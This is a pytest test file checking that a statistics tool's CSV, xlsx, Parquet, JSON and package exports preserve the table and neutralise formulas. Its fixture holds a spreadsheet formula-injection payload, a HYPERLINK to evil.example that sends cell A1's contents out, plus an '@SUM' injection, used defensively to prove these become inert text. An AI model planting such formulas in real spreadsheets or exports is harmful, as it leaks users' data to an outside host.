"""Every form of file gives back the same table, says what it holds, and runs nothing."""

import io
import json
import zipfile
from dataclasses import replace

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from vsv_metrics import loading, paths
from vsv_metrics.delivery import document, origin
from vsv_metrics.errors import UserError
from vsv_metrics.export import xlsx
from vsv_metrics.export.described import COLUMNS, about, label
from vsv_metrics.export.document import Document, plain
from vsv_metrics.export.formats import FORMATS
from vsv_metrics.export.table import COMPARED, RECKONED, download_table
from vsv_metrics.indicators.figures import figures
from vsv_metrics.schema.codes import BREAKDOWNS
from vsv_metrics.sources.foreign import read_own
from vsv_metrics.store import Store
from vsv_metrics.text import LANGUAGES, locale

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
OWN = "schooljaar;regio;deelnemers;vsv\n2022-2023;RMC29;1000;40\n2023-2024;RMC29;1000;<5\n"
DATES = ("published_on", "source_retrieved_on")


def of(store: Store, dataset: str, language: str = "nl", **choice: object) -> Document:
    words, query = locale(language), f"/tabellen?taal={language}"
    table = download_table(figures(store, dataset, **choice), origin(store, query), words)  # pyright: ignore[reportArgumentType]
    notes = (words("tables.series_note"),)
    return document(store, table, words, dataset=dataset, title="Titel", stem="vsv-titel", query=query, notes=notes)


@pytest.fixture(scope="module")
def documents(store: Store) -> dict[str, Document]:
    """Published figures, example figures, and an own table in which every text that a person could have written is hostile."""
    reading = read_own("regio.csv", OWN.encode(), loading.read_reference(paths.data_dir()))
    own = loading.session_store(reading.frame, paths.data_dir())
    local = of(own, "local")
    own.close()
    texts = {
        "region_name": HOSTILE,
        "series_name": "\t@SUM(1)",
        "source_title": "<b>&'\"; regel 1\nregel 2 \x01",
        "region_code": "07",
    }
    changed = local.table
    for name, text in texts.items():
        changed = changed.set_column(changed.column_names.index(name), name, pa.array([text] * len(changed)))
    return {
        "published": of(store, "published", levels=["province", "country"], breakdowns={"sector": None}),
        "demo": of(store, "demo", "en", regions=["RMC29"], breakdowns={"sector": None, "level": None}),
        "local": replace(local, table=changed),
    }


def expected(made: Document) -> pd.DataFrame:
    frame = plain(made.table).to_pandas().astype(object)
    return frame.where(frame.notna(), None)


def same(found: pd.DataFrame, made: Document, *, harmless: bool = False) -> None:
    """The same columns, rows, order and values; days as texts, a text with an apostrophe when it is to be harmless."""
    wanted = expected(made)
    assert list(found.columns) == list(wanted.columns)
    assert len(found) == len(wanted) > 0
    for name in map(str, wanted.columns):
        got, right = ([None if pd.isna(value) else value for value in frame[name]] for frame in (found, wanted))
        if name in DATES:
            got, right = ([value and str(value)[:10] for value in values] for values in (got, right))
        if COLUMNS.get(name, "text") in ("persons", "percent", "whole", "number"):
            assert got == pytest.approx(right, abs=1e-6), name
        else:
            right = ["'" + value if harmless and value and value.lstrip().startswith(("=", "@")) else value for value in right]
            assert [value or None for value in got] == [value or None for value in right], name


@pytest.mark.parametrize("dataset", ["published", "demo", "local"])
def test_every_form_gives_the_same_table_again(documents: dict[str, Document], dataset: str) -> None:
    made = documents[dataset]
    written = {name: form.write(made) for name, form in FORMATS.items()}
    same(pd.read_parquet(io.BytesIO(written["parquet"])), made)
    same(pd.DataFrame(json.loads(written["json"])["rows"]), made)
    with zipfile.ZipFile(io.BytesIO(written["package"])) as package:
        inside = package.read("table.csv")
    for content in (inside, written["csv"]):
        texts = [name for name in made.table.column_names if COLUMNS.get(name, "text") == "text"]
        frame = pd.read_csv(io.BytesIO(content), dtype=dict.fromkeys(texts, "str"))
        same(frame, made, harmless=True)
    sheet = openpyxl.load_workbook(io.BytesIO(written["xlsx"])).worksheets[0]
    header, *rows = sheet.iter_rows()
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "d", "inlineStr"}
    values = [[unescaped(cell.value) for cell in row] for row in rows]
    same(pd.DataFrame(values, columns=[cell.value for cell in header], dtype=object), made)


def unescaped(value: object) -> object:
    return value.replace("_x0001_", "\x01") if isinstance(value, str) else value


@pytest.mark.parametrize("dataset", ["published", "demo", "local"])
def test_duckdb_reads_parquet_and_csv(documents: dict[str, Document], dataset: str, tmp_path) -> None:
    made = documents[dataset]
    for name, reader in (
        ("parquet", "read_parquet('{}')"),
        ("csv", "read_csv('{}', all_varchar = true)"),
        ("json", "read_json('{}')"),
    ):
        path = tmp_path / f"table.{name}"
        path.write_bytes(FORMATS[name].write(made))
        asked = duckdb.connect().sql(f"SELECT * FROM {reader.format(path)}")
        assert asked is not None
        if name == "json":
            assert asked.fetchall()[0][asked.columns.index("data_fingerprint")] == made.fingerprint
        else:
            assert len(asked.fetchall()) == len(made.table)
            assert asked.columns == made.table.column_names


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_document_gives_the_same_bytes(documents: dict[str, Document], name: str) -> None:
    made = documents["published"]
    assert FORMATS[name].write(made) == FORMATS[name].write(made)


def test_no_cell_of_a_workbook_is_a_formula(documents: dict[str, Document]) -> None:
    content = FORMATS["xlsx"].write(documents["local"])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert not any("<f>" in sheet or "<f " in sheet or "<hyperlink" in sheet for sheet in sheets)
    cell = (
        openpyxl.load_workbook(io.BytesIO(content))
        .worksheets[0]
        .cell(2, documents["local"].table.column_names.index("region_name") + 1)
    )
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


def test_a_workbook_is_typed_and_tells_what_is_in_it(documents: dict[str, Document]) -> None:
    made = documents["demo"]
    book = openpyxl.load_workbook(io.BytesIO(FORMATS["xlsx"].write(made)))
    assert book.sheetnames == ["Table (example)", "Definitions", "Sources", "Notes", "Choices"]
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == sheet.dimensions
    formats = {name: sheet.cell(2, number + 1).number_format for number, name in enumerate(made.table.column_names)}
    assert (formats["numerator"], formats["rate_pct"], formats["year"]) == ("#,##0", "0.00", "0")
    assert [row[0] for row in book["Notes"].iter_rows(values_only=True)][1] == locale("en")("common.demo_mark")
    assert {str(row[1]) for row in book["Definitions"].iter_rows(values_only=True)} >= set(made.table.column_names) | {
        "z",
        "x",
        "c",
        "low",
    }
    assert [row[0] for row in book["Sources"].iter_rows(values_only=True, min_row=2)] == [row["title"] for row in made.sources]
    assert made.fingerprint in {str(row[1]) for row in book["Choices"].iter_rows(values_only=True)}


def test_more_rows_than_a_sheet_holds_are_refused(documents: dict[str, Document], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MOST_ROWS", 3)
    with pytest.raises(UserError) as refused:
        FORMATS["xlsx"].write(documents["published"])
    assert refused.value.code == "sheet_rows"


@pytest.mark.parametrize("dataset", ["published", "demo"])
def test_a_package_describes_every_column_and_says_how_to_cite(documents: dict[str, Document], dataset: str) -> None:
    made = documents[dataset]
    with zipfile.ZipFile(io.BytesIO(FORMATS["package"].write(made))) as package:
        assert package.namelist() == ["table.csv", "datapackage.json", "README.md"]
        described = json.loads(package.read("datapackage.json"))
        readme = package.read("README.md").decode()
    schema = described["resources"][0]["schema"]
    assert [field["name"] for field in schema["fields"]] == made.table.column_names
    assert all(field["description"] and field["title"] for field in schema["fields"])
    assert {"region_code", "year", "sector"} <= set(schema["primaryKey"])
    assert (made.locale("common.demo_mark") in readme) == (dataset == "demo") == described["vsv"]["is_fictional"]
    assert [source["title"] for source in described["sources"]] == [row["title"] for row in made.sources]
    for row in made.sources:
        assert row["title"] in readme
        assert row["publisher"] in readme
    assert made.fingerprint in readme


@pytest.mark.parametrize("name", ["parquet", "json"])
def test_what_is_known_travels_inside_the_file(documents: dict[str, Document], name: str) -> None:
    made = documents["demo"]
    content = FORMATS[name].write(made)
    known = json.loads(content) if name == "json" else json.loads(pq.read_schema(io.BytesIO(content)).metadata[b"vsv"])
    assert known["is_fictional"]
    assert known["title"].startswith(made.locale("common.demo_mark"))
    assert (known["query"], known["data_fingerprint"]) == (made.query, made.fingerprint)
    assert [column["name"] for column in known["columns"]] == made.table.column_names


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_column_of_a_download_is_described(store: Store, language: str) -> None:
    words = locale(language)
    table = download_table(figures(store, "published", regions=["NL"]), origin(store, "", "let op"), words, BREAKDOWNS)
    names = [*table.column_names, *RECKONED, *COMPARED, "measure"]
    assert set(COLUMNS) == set(names) - {name for code in BREAKDOWNS for name in (code, f"{code}_name")}
    assert all(about(name, words) for name in names)
    assert len({label(name, words) for name in names}) == len(names)
